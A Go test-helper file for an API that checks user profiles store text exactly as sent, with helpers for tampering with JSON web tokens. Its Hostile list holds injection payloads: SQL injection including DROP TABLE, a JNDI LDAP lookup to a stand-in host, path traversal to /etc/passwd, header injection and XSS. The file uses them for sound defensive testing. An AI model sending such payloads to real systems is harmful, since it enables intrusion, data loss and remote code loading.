package apitest

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// Hostile are texts that mean something to one layer or another.
var Hostile = []string{
	"'", `"\`, "';--", "$1 $$ ? % _", "a\x00b", "\x00", "%00", "' OR '1'='1", "'; DROP TABLE users; --", "${jndi:ldap://evil.test}{{7*7}}",
	"../../etc/passwd", "\r\nSet-Cookie: a=b", "<script>alert(1)</script>", "\U0001F600", "e\u0301", "\u202e\ufeff\u2028", strings.Repeat("'", 5000),
}

// Holds checks that a profile has text as it was sent.
func Holds(t *testing.T, res *Response, parameter, text string) {
	t.Helper()
	var p map[string]any
	res.Want(200, "").JSON(&p)
	var got any = p
	for _, name := range strings.Split(strings.Replace(parameter, "username", "preferred_username", 1), ".") {
		name = strings.Replace(name, "preferred_preferred_", "preferred_", 1)
		got, _ = got.(map[string]any)[name]
	}
	if strings.HasSuffix(parameter, "username") {
		text = strings.ReplaceAll(text, "e\u0301", "\u00e9") // usernames are kept in NFC
	}
	if !reflect.DeepEqual(got, text) {
		t.Errorf("%.40q was stored as %.40q", text, got)
	}
}

// ManyMembers are n members of a JSON object, each with a comma behind it.
func ManyMembers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `"f%d":1,`, i)
	}
	return b.String()
}

// Flattened is the flattened JSON serialization of a compact token (RFC 7515 section 7.2.2).
func Flattened(token string) string {
	p := strings.Split(token, ".")
	return Fields{"protected": p[0], "payload": p[1], "signature": p[2]}.Text()
}

// FlipLastBit flips the lowest bit of the last character, which base64url may ignore.
func FlipLastBit(token string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	i := strings.IndexByte(alphabet, token[len(token)-1])
	return token[:len(token)-1] + string(alphabet[i^1])
}
